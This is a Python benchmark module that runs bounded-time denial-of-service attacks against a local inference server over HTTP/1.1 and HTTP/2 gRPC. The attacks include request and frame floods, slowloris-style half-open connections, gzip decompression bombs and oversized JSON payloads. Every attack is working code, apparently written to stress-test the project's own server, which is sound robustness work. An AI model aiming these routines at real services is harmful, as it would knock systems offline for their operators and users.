"""What a client can do to a server, each for a bounded time; run as a process of its own.

python -m benchmarks.attacks NAME PORT SECONDS
"""

from __future__ import annotations

import gzip
import json
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

from hpack import Encoder

MODEL = "m"
INFER = f"/v2/models/{MODEL}/infer"
CALL = "/inference.GRPCInferenceService/ModelInfer"
MEGABYTE = 1 << 20
LARGE = 15 * MEGABYTE
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">IBI", 4, 0, 0)
DATA, HEADERS, PING, WINDOW = 0, 1, 6, 8

Attack = Callable[[int, float], None]
"""Takes a port, and the moment of time.monotonic() at which it ends."""


def _connect(port: int) -> socket.socket:
    made = socket.create_connection(("127.0.0.1", port), timeout=2)
    made.settimeout(0.5)
    return made


def _flood(port: int, until: float, begin: bytes, more: bytes, count: int = 4) -> None:
    """Send the same without end on some connections, and read what comes."""
    open_ones: list[socket.socket] = []
    while time.monotonic() < until:
        while len(open_ones) < count:
            open_ones.append(_connect(port))
            open_ones[-1].sendall(begin)
        for one in list(open_ones):
            try:
                one.settimeout(0.02)
                one.send(more)
                one.setblocking(False)
                while one.recv(1 << 16):
                    pass
            except (BlockingIOError, TimeoutError):
                pass
            except OSError:
                one.close()
                open_ones.remove(one)


def _post(body: bytes, *lines: str, length: int | None = None) -> bytes:
    size = len(body) if length is None else length
    head = [f"POST {INFER} HTTP/1.1", "Host: a", f"Content-Length: {size}", *lines]
    return ("\r\n".join(head) + "\r\n\r\n").encode() + body


def _each(port: int, until: float, content: bytes, reads: bool = True) -> None:
    """Send something whole on a new connection each time."""
    kept: list[socket.socket] = []
    while time.monotonic() < until:
        try:
            one = _connect(port)
            one.sendall(content)
            if reads:
                while one.recv(1 << 16):
                    pass
            else:
                kept.append(one)
        except OSError:
            continue
        finally:
            if reads:
                one.close()


def pipelined(port: int, until: float) -> None:
    """Requests for nothing, thousands in a read."""
    _flood(port, until, b"", b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 5000)


def new_heads(port: int, until: float) -> None:
    """The same, with heads of many fields."""
    fields = "".join(f"X-{n}: y\r\n" for n in range(100))
    _flood(port, until, b"", f"GET / HTTP/1.1\r\nHost: a\r\n{fields}\r\n".encode() * 100)


def tiny_chunks(port: int, until: float) -> None:
    """A body of chunks of one byte."""
    head = f"POST {INFER} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    _flood(port, until, head, b"1\r\na\r\n" * 10_000)


def trailer(port: int, until: float) -> None:
    """One trailer without end."""
    head = (
        f"POST {INFER} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX: "
    )
    _flood(port, until, head.encode(), b"a" * MEGABYTE)


def unfinished(port: int, until: float) -> None:
    """Large bodies that lack a byte."""
    content = _post(bytes(LARGE - 1), length=LARGE)
    kept = []
    while time.monotonic() < until:
        try:
            kept.append(_connect(port))
            kept[-1].sendall(content)
        except OSError:
            continue


def half_heads(port: int, until: float) -> None:
    """Thousands of connections that have said half of a head."""
    kept = []
    while time.monotonic() < until:
        try:
            kept.append(_connect(port))
            kept[-1].sendall(b"GET / HTTP/1.1\r\nHost:")
        except OSError:
            time.sleep(0.01)


def _listing(data: bytes, count: int) -> bytes:
    tensor = {"name": "input", "shape": [count, 30], "datatype": "FP32"}
    return json.dumps({"inputs": [tensor]}).encode()[:-3] + b', "data": ' + data + b"}]}"


def refused(port: int, until: float) -> None:
    """Large bodies that are wrong."""
    _each(port, until, _post(_listing(b"[" + b"1.5," * 1_500_000 + b"x]", 50_000)))


def lists(port: int, until: float) -> None:
    """JSON of empty lists, each of which would be an object."""
    _each(port, until, _post(_listing(b"[" + b"[]," * 4_500_000 + b"[]]", 4_500_001)))


def nulls(port: int, until: float) -> None:
    """Long lists that are read value by value, rightly asked."""
    rows = 90_000
    _each(port, until, _post(_listing(b"[%s]" % b",".join([b"null"] * (rows * 30)), rows)))


def words(port: int, until: float) -> None:
    """A million strings, rightly asked of a model that takes them."""
    count = 1_000_000
    tensor = {"name": "x", "shape": [count, 1], "datatype": "BYTES", "data": ["word"] * count}
    _each(port, until, _post(json.dumps({"inputs": [tensor]}).encode()))


def bomb(port: int, until: float) -> None:
    """Little gzip that is much JSON."""
    packed = gzip.compress(_listing(b"[" + b"[]," * 4_500_000 + b"[]]", 4_500_001))
    _each(port, until, _post(packed, "Content-Encoding: gzip"))


def unread(port: int, until: float) -> None:
    """Large requests, rightly asked, whose answers nobody reads."""
    rows = 20_000
    numbers = b",".join([b"0.5"] * (rows * 30))
    _each(port, until, _post(_listing(b"[%s]" % numbers, rows)), reads=False)


def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    return struct.pack(">IBI", len(content) << 8 | kind, flags, stream) + content


def _head(
    encoder: Encoder, stream: int, *more: tuple[str, str], flags: int = 4, path: str = CALL
) -> bytes:
    fields = [(":method", "POST"), (":scheme", "http"), (":authority", "a")]
    fields += [(":path", path), ("te", "trailers")]
    fields += [("content-type", "application/grpc"), *more]
    return _frame(HEADERS, flags, stream, encoder.encode(fields))


def ended_streams(port: int, until: float) -> None:
    """Data for calls that are over."""
    call = _head(Encoder(), 1, ("content-length", "x"))
    _flood(port, until, PREFACE + call, _frame(DATA, 0, 1, b"x") * 5000)


def questions(port: int, until: float) -> None:
    """Thousands of messages in each frame of a streamed call."""
    path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
    head = _head(Encoder(), 1, path=path)
    _flood(port, until, PREFACE + head, _frame(DATA, 0, 1, bytes(5) * 3000))


def pings(port: int, until: float) -> None:
    """Frames that ask for an answer each."""
    _flood(port, until, PREFACE, _frame(PING, 0, 0, bytes(8)) * 5000)


def windows(port: int, until: float) -> None:
    """Frames that allow us a byte more each."""
    _flood(port, until, PREFACE, _frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 5000)


def empty_calls(port: int, until: float) -> None:
    """Calls without a message, as fast as they go."""

    def calls(first: int) -> Iterator[bytes]:
        for stream in range(first, first + 4000, 2):
            yield _head(encoder, stream, flags=5)

    stream = 1
    while time.monotonic() < until:
        encoder = Encoder()
        try:
            one = _connect(port)
            one.sendall(PREFACE + b"".join(calls(stream)))
            while one.recv(1 << 16) and time.monotonic() < until:
                pass
        except OSError:
            continue
        finally:
            one.close()


def grpc_bomb(port: int, until: float) -> None:
    """Little gzip that is millions of tensors."""
    packed = gzip.compress(b"\x2a\x00" * 7_000_000)
    message = struct.pack(">BI", 1, len(packed)) + packed
    pieces = [message[at : at + 16384] for at in range(0, len(message), 16384)]
    data = b"".join(_frame(DATA, n == len(pieces) - 1, 1, p) for n, p in enumerate(pieces))
    call = _head(Encoder(), 1, ("grpc-encoding", "gzip"))
    while time.monotonic() < until:
        try:
            one = _connect(port)
            one.sendall(PREFACE + call + data)
            one.recv(1 << 16)
            time.sleep(0.01)
        except OSError:
            continue
        finally:
            one.close()


def half_frames(port: int, until: float) -> None:
    """Thousands of connections that have said half of a frame."""
    kept = []
    while time.monotonic() < until:
        try:
            kept.append(_connect(port))
            kept[-1].sendall(PREFACE + b"\0\0")
        except OSError:
            time.sleep(0.01)


OVER_HTTP: dict[str, Attack] = {
    a.__name__: a
    for a in (
        *(pipelined, new_heads, tiny_chunks, trailer, unfinished, half_heads),
        *(refused, lists, nulls, words, bomb, unread),
    )
}
OVER_GRPC: dict[str, Attack] = {
    a.__name__: a
    for a in (ended_streams, questions, pings, windows, empty_calls, grpc_bomb, half_frames)
}

if __name__ == "__main__":
    name, port, seconds = sys.argv[1:]
    chosen = (OVER_HTTP | OVER_GRPC)[name]
    chosen(int(port), time.monotonic() + float(seconds))
